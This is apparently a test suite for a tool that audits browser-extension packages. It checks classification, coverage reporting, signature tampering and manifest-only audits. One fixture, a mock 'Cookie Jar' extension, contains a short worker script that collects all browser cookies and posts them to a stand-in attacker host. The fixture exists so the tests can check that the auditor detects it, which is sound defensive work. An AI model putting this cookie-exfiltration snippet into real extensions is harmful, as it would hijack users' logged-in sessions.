import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import { ZipWriter, TextReader, Uint8ArrayWriter } from '@zip.js/zip.js';
import { audit, summarise, type AuditOptions } from './audit.ts';

const options: AuditOptions = { analyzedAt: '2026-03-01T10:20:30.000Z' };

describe('audit', () => {
  it('gives the same report for the same contents, whatever the order of files', async () => {
    const files = Object.entries(cookieThief);
    const one = await audit(await zipOf(files), options);
    const other = await audit(await zipOf(files.toReversed()), options);
    const { package: _, ...report } = one.report;
    const { package: __, ...otherReport } = other.report;
    assert.deepEqual(JSON.parse(JSON.stringify(otherReport)), JSON.parse(JSON.stringify(report)));
  });

  it('shows what the code does with place and text, and calls it by its name', async () => {
    const { report } = await audit(await zipOf(Object.entries(cookieThief)), options);
    assert.notEqual(report.classification, 'clean');
    const sent = report.findings.find(({ id }) => id === 'cookies-sent');
    assert.equal(sent?.evidence[0]?.at?.file, 'worker.js');
    assert.match(sent?.evidence[0]?.excerpt ?? '', /chrome\.cookies\.getAll/);
    assert.deepEqual(
      report.hosts.filter(({ sends_data }) => sends_data).map(({ host }) => host),
      ['collect.attacker-site.net'],
    );
  });

  it('adds up, and says where the classification comes from', async () => {
    const { report } = await audit(await zipOf(Object.entries(cookieThief)), options);
    const sum = report.contributions.reduce((total, { points }) => total + points, 0);
    assert.equal(sum, report.risk_score);
    assert.ok(report.improvements.length > 0);
  });

  it('passes on what the caller knows of the publisher and the time', async () => {
    const publisher = {
      riskLevel: 'high',
      isVerified: true,
      totalExtensions: 17,
      hasMaliciousHistory: true,
      otherMaliciousExtensions: 0,
    } as const;
    const { report } = await audit(await zipOf(Object.entries(harmless)), {
      ...options,
      context: { publisher },
    });
    assert.equal(report.analyzed_at, options.analyzedAt);
    assert.deepEqual(report.publisher_analysis, {
      publisher_risk_level: 'high',
      is_verified: true,
      total_extensions: 17,
      malicious_history: true,
    });
  });

  it('judges a manifest of 100,000 permissions by what it reads, and says so (row 40)', async () => {
    const permissions = Array.from({ length: 100_000 }, (_, index) => `invented${index}`);
    const manifest = { manifest_version: 3, name: 'Greedy', version: '2.5', permissions };
    const source = await zipOf([['manifest.json', JSON.stringify(manifest)]]);
    const { report, summary } = await audit(source, options);
    assert.equal(report.classification, 'incomplete');
    assert.ok(report.findings.some(({ id }) => id === 'container-oddity'));
    assert.match(report.coverage.skipped[0]?.why ?? '', /more than 10000 entries in "permissions"/);
    assert.match(summary.catalogueProblem ?? '', /more than 10000 entries in "permissions"/);
    assert.ok(JSON.stringify(report).length < 20_000);
  });

  it('calls a harmless extension clean, with complete coverage', async () => {
    const { report } = await audit(await zipOf(Object.entries(harmless)), options);
    assert.equal(report.classification, 'clean');
    const { complete, skipped, limited } = report.coverage;
    assert.deepEqual([complete, skipped, limited], [true, [], []]);
    assert.equal(report.risk_level, 'low');
  });

  it('is incomplete where a file was skipped, with the reason', async () => {
    const skippedFiles = new Map([['worker.js', 'it brought the process down']]);
    const { report } = await audit(await zipOf(Object.entries(harmless)), {
      ...options,
      skippedFiles,
    });
    assert.equal(report.classification, 'incomplete');
    assert.ok(report.coverage.skipped.some(({ what }) => what === 'worker.js'));
  });

  it('is never clean when a byte of a signed package was flipped', async () => {
    const bytes = new Uint8Array(readFileSync(storePackage));
    const position = bytes.length - 5_000;
    bytes[position] = bytes[position]! ^ 1;
    const { report } = await audit({ kind: 'bytes', bytes, name: 'flipped.crx' }, options);
    assert.equal(report.signature.status, 'invalid');
    assert.notEqual(report.classification, 'clean');
  });

  it('rejects what is no package', async () => {
    const bytes = new TextEncoder().encode('This is no package.');
    await assert.rejects(audit({ kind: 'bytes', bytes, name: 'notes.txt' }, options), {
      name: 'PackageError',
    });
  });

  it('keeps a devtools extension of the store out of malicious and critical', async () => {
    const { report } = await audit({ kind: 'file', path: storePackage }, options);
    assert.equal(report.signature.signer, 'chrome-web-store');
    const { extension_id, extensionId, proofs } = report.signature;
    assert.equal(extension_id, extensionId);
    assert.ok(proofs.every(({ key_sha256, keySha256 }) => key_sha256 === keySha256));
    assert.notEqual(report.classification, 'malicious');
    assert.notEqual(report.risk_level, 'critical');
  });
});

describe('summarise', () => {
  it('says what the catalogue keeps', async () => {
    const summary = await summarise(await zipOf(Object.entries(cookieThief)));
    assert.equal(summary.name, 'Cookie Jar');
    assert.equal(summary.version, '6.7.8');
    assert.equal(summary.format, 'zip');
    assert.deepEqual(summary.permissions, ['<all_urls>', 'cookies']);
    assert.equal(new TextDecoder().decode(summary.manifestRaw), cookieThief['manifest.json']);
  });
});

const storePackage = join(
  dirname(fileURLToPath(import.meta.resolve('@tomjs/electron-devtools-files/package.json'))),
  'extensions',
  'fmkadmapgofadopljbjfkapdkoienihi.crx',
);

const cookieThief: Readonly<Record<string, string>> = {
  'manifest.json': JSON.stringify({
    manifest_version: 3,
    name: 'Cookie Jar',
    version: '6.7.8',
    permissions: ['cookies'],
    host_permissions: ['<all_urls>'],
    background: { service_worker: 'worker.js' },
  }),
  'worker.js': `chrome.cookies.getAll({}, (cookies) => {
  fetch('https://collect.attacker-site.net/in', { method: 'POST', body: JSON.stringify(cookies) });
});
`,
  'unused.js': 'console.log("nobody runs this");',
};

const harmless: Readonly<Record<string, string>> = {
  'manifest.json': JSON.stringify({
    manifest_version: 3,
    name: 'Plain',
    version: '1.2.3',
    background: { service_worker: 'worker.js' },
  }),
  'worker.js': 'console.log("ready");',
};

async function zipOf(files: readonly (readonly [string, string])[]) {
  const writer = new ZipWriter(new Uint8ArrayWriter());
  for (const [name, text] of files) await writer.add(name, new TextReader(text));
  return { kind: 'bytes', bytes: await writer.close(), name: 'sample.zip' } as const;
}

describe('audit of a manifest alone', () => {
  const bytes = Buffer.from(
    JSON.stringify({
      manifest_version: 3,
      name: 'Heard of',
      version: '4.2',
      default_locale: 'en',
      permissions: ['cookies', 'debugger'],
      host_permissions: ['<all_urls>'],
      background: { service_worker: 'worker.js' },
      content_scripts: [{ matches: ['<all_urls>'], js: ['page.js'] }],
    }),
  );

  it('is incomplete, and says what the extension may do and that the code was not seen', async () => {
    const { report } = await audit({ kind: 'manifest', bytes }, options);
    assert.equal(report.classification, 'incomplete');
    assert.match(report.coverage.skipped[0]?.why ?? '', /^the code was not seen/);
    assert.match(report.headline, /^It can .*; its code was not seen\.$/);
    const ids = new Set<string>(report.findings.map(({ id }) => id));
    for (const id of [
      'debugger-permission',
      'cookies-with-all-urls',
      'content-script-on-all-sites',
    ]) {
      assert.ok(ids.has(id), id);
    }
    assert.deepEqual([report.package.sha256, report.package.size_bytes], ['', 0]);
  });

  it('claims nothing about files that nobody has seen', async () => {
    const { report } = await audit({ kind: 'manifest', bytes }, options);
    for (const { id, nature } of report.findings) {
      assert.ok(nature === 'capability', `${id} says something of the code`);
    }
  });

  it('is never lower than that of the package would be without code', async () => {
    const alone = (await audit({ kind: 'manifest', bytes }, options)).report;
    assert.ok(alone.risk_score >= 26 && alone.risk_level === 'medium');
  });
});
